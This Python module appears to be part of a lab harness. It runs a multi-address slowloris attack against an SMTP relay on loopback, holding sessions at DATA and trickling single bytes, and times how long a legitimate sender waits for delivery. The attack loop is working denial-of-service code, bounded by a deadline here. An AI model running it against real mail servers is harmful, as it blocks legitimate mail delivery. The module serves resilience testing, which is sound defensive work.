"""A many-address slowloris against a relay on loopback, and a legitimate sender's wait.

Each attacker opens a session from its own loopback address, gets as far as DATA and then
trickles one byte at a time, reconnecting whenever the relay drops it, until told to stop.
Bounded: every thread stops at `stop` or at its deadline, whichever comes first.
"""
from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field

from lab.client import Client, deliver, message


@dataclass
class Attack:
    port: int
    sources: list[str]
    per_source: int = 5
    trickle_s: float = 5.0
    max_seconds: float = 600.0
    stop: threading.Event = field(default_factory=threading.Event)
    threads: list[threading.Thread] = field(default_factory=list)
    holding: int = 0  # sessions that reached DATA and are trickling now
    dropped: int = 0  # sessions the relay ended
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def start(self) -> "Attack":
        deadline = time.monotonic() + self.max_seconds
        for source in self.sources:
            for _ in range(self.per_source):
                t = threading.Thread(target=self._attacker, args=(source, deadline), daemon=True)
                t.start()
                self.threads.append(t)
        return self

    def _attacker(self, source: str, deadline: float) -> None:
        while not self.stop.is_set() and time.monotonic() < deadline:
            try:
                c = Client(self.port, source, timeout=30)
            except OSError:
                self.stop.wait(0.5)
                continue
            held = False
            try:
                c.read("banner")
                if c.cmd("EHLO slow.example.net").code != 250 or c.cmd("MAIL FROM:<x@example.net>").code != 250:
                    continue
                c.cmd("RCPT TO:<victim@viktorbarzin.me>")
                if c.cmd("DATA").code != 354:
                    continue
                with self._lock:
                    self.holding += 1
                held = True
                while not self.stop.is_set() and time.monotonic() < deadline:
                    c.send(b"x")
                    self.stop.wait(self.trickle_s)
            except (ConnectionError, OSError):
                pass
            finally:
                if held:
                    with self._lock:
                        self.holding -= 1
                        self.dropped += 1
                c.close()
            self.stop.wait(0.2)

    def wait_holding(self, count: int, timeout: float) -> bool:
        """Wait until `count` sessions hold an smtpd (condition, bounded)."""
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            if self.holding >= count:
                return True
            self.stop.wait(0.2)
        return False

    def end(self) -> None:
        self.stop.set()
        for t in self.threads:
            t.join(timeout=40)


def legit_wait(port: int, source: str, lab_id: str, limit_s: float) -> tuple[float | None, int]:
    """Offer one message, retrying at once after each refusal (a sender's retry, compressed),
    until accepted or `limit_s` passes. Returns (seconds to acceptance or None, attempts)."""
    started, attempts = time.monotonic(), 0
    while time.monotonic() - started < limit_s:
        attempts += 1
        session = deliver(port, "sender@example.com", ["alice@viktorbarzin.me"], message(lab_id), source=source)
        if session.accepted:
            return time.monotonic() - started, attempts
        time.sleep(1)
    return None, attempts
